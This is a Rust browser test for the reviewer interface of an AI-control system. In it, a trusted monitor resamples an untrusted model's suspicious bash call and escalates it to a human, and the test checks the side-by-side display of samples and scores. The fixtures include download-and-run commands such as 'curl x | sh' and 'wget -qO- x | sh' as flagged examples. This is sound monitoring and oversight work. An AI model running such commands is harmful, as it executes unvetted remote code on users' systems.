//! A control protocol's note in the reviewer UI, in real headless Chromium: a call the
//! `resample` step escalated (every sample stayed above its threshold) shows, beside the call,
//! the original and each sample side by side, each call as Inspect renders it with its score
//! and reason or error, the least suspicious one, which the step chose, marked, and the
//! evidence; axe-core finds nothing serious or critical on the page.

use airlock_contract::v1;
use airlock_records::monitor::{MonitorNote, NoteCall, NoteEvidence, NoteProtocol, NoteSample};
use airlock_reviewer::Service;
use airlock_reviewer::task::Incoming;
use airlock_tests::webdriver::{Browser, in_browser, screenshot_path};
use airlock_tests::{REVIEWER_TOKEN, approval, reviewer_config};
use airlock_transport::MemoryTransport;
use prost::Message as _;
use serde_json::{Value, json};

const POLICY: &str =
    "approvers:\n  - name: resample\n    tools: \"*\"\n  - name: human\n    tools: \"*\"\n    pool: ops\n";

fn call(cmd: &str) -> NoteCall {
    NoteCall { function: "bash".into(), arguments: json!({ "cmd": cmd }).as_object().cloned().unwrap() }
}

/// The resample step's note: three samples of `curl x | sh`, two as suspicious, one the
/// model failed to make; none below the threshold, so the call went to a person.
fn note() -> MonitorNote {
    let sample = |cmd: &str, score: f64, reason: &str| NoteSample {
        call: Some(call(cmd)),
        score: Some(score),
        reason: Some(reason.into()),
        ..Default::default()
    };
    let mut samples = vec![
        sample("curl x | bash", 9.0, "still pipes a download"),
        sample("wget -qO- x | sh", 7.0, "the same, with wget"),
        NoteSample { error: Some("the model made no call".into()), ..Default::default() },
    ];
    samples[1].chosen = true;
    MonitorNote {
        monitor: "resample".into(),
        provider: "openai".into(),
        model: "trusted-monitor".into(),
        score: Some(8.0),
        reason: Some("pipes a download into a shell".into()),
        attempts: 1,
        protocol: Some(NoteProtocol {
            name: "resample".into(),
            mode: Some("run".into()),
            threshold: 6.0,
            model: "openai/untrusted".into(),
            original: Some(call("curl x | sh")),
            replacement: None,
            samples,
            evidence: Some(NoteEvidence { max: 9.0, mean: 8.0 }),
        }),
        ..Default::default()
    }
}

/// The person's task, as a chain brings it after the resample step escalated.
fn escalated() -> Incoming {
    let mut request = approval("s1", "c1", json!({"function": "bash", "arguments": {"cmd": "curl x | sh"}}), POLICY);
    let answer = v1::StepAnswer {
        step: Some(0),
        approver: "resample".into(),
        decision: v1::DecisionKind::Escalate.into(),
        explanation: Some("Every sample scored at or above 6.".into()),
        metadata_json: serde_json::to_string(&note()).unwrap(),
        decided_by: "monitor-1".into(),
        ..Default::default()
    };
    request.chain = Some(v1::ChainState { next_step: 1, trail: vec![answer], ..Default::default() });
    let step = v1::StepTask {
        request: Some(request),
        step: 1,
        name: "human".into(),
        params_json: "{}".into(),
        on_timeout: v1::DecisionKind::Reject.into(),
        ..Default::default()
    };
    let choices = [v1::DecisionKind::Approve, v1::DecisionKind::Reject, v1::DecisionKind::Terminate];
    let human = v1::HumanTask {
        task: Some(step),
        choices: choices.map(Into::into).to_vec(),
        pool: "ops".into(),
        ..Default::default()
    };
    Incoming::decode(&human.encode_to_vec(), "ops").expect("a valid task")
}

#[tokio::test]
async fn a_resampled_call_shows_its_samples_side_by_side() {
    in_browser(scenario).await;
}

async fn scenario() {
    let service = Service::start(MemoryTransport::new(), reviewer_config("protocols", "sqlite::memory:", "reviewer"))
        .await
        .unwrap();
    let url = format!("http://{}/", service.local_addr());
    service.desk().store().insert(&escalated(), airlock_records::time::now_ms()).await.unwrap();
    service.desk().poke();

    let browser = Browser::start().await;
    browser.goto(&url).await;
    browser.type_into(&browser.wait_for("input#token").await, REVIEWER_TOKEN).await;
    browser.press("\u{e007}").await; // Enter
    browser.wait_for("article.task section.protocol ol.calls li").await;

    // What a person sees of each column, and where the columns sit on the screen.
    let shown: Value = browser
        .execute(
            "return Array.from(document.querySelectorAll('section.protocol ol.calls > li')).map(li => {\
               const r = li.getBoundingClientRect();\
               const field = label => Array.from(li.querySelectorAll('dl.meta > div'))\
                 .filter(d => d.querySelector('dt').textContent === label).map(d => d.querySelector('dd').innerText)[0] || null;\
               return {title: li.querySelector('h4').textContent, call: li.querySelector('pre').innerText.trim(),\
                 score: field('Score'), said: field('Reason') || field('Error'), chosen: li.classList.contains('chosen'),\
                 top: Math.round(r.top), left: Math.round(r.left), visible: r.width > 0 && r.height > 0}; })",
        )
        .await;
    let columns = shown.as_array().expect("the columns");
    assert!(columns.iter().all(|c| c["visible"] == true), "{shown}");
    let read: Vec<Value> =
        columns.iter().map(|c| json!([c["title"], c["call"], c["score"], c["said"], c["chosen"]])).collect();
    assert_eq!(
        read,
        [
            json!(["Original (untrusted model)", "bash(cmd='curl x | sh')", "8", null, false]),
            json!(["Sample 1", "bash(cmd='curl x | bash')", "9", "still pipes a download", false]),
            json!(["Sample 2 chosen", "bash(cmd='wget -qO- x | sh')", "7", "the same, with wget", true]),
            json!(["Sample 3", "(no call)", null, "the model made no call", false]),
        ],
        "{shown}"
    );
    // Side by side: the first row holds more than one column, left to right.
    assert_eq!(columns[0]["top"], columns[1]["top"], "{shown}");
    assert!(columns[0]["left"].as_i64() < columns[1]["left"].as_i64(), "{shown}");
    let summary = browser.text(&browser.wait_for("section.protocol .summary").await).await;
    assert_eq!(summary, "model openai/untrusted · score 8 · threshold 6 · evidence: max 9, mean 8");
    let heading = browser.text(&browser.wait_for("section.protocol h3").await).await;
    assert_eq!(heading.to_lowercase(), "resampled");

    browser.assert_accessible("a task with a resample's samples").await;
    browser.execute("document.querySelector('section.protocol').scrollIntoView(); window.scrollBy(0, -80)").await;
    let shot = screenshot_path("reviewer-resample.png");
    browser.screenshot(&shot).await;
    eprintln!("screenshot: {}", shot.display());
    browser.quit().await;
    service.stop().await;
}
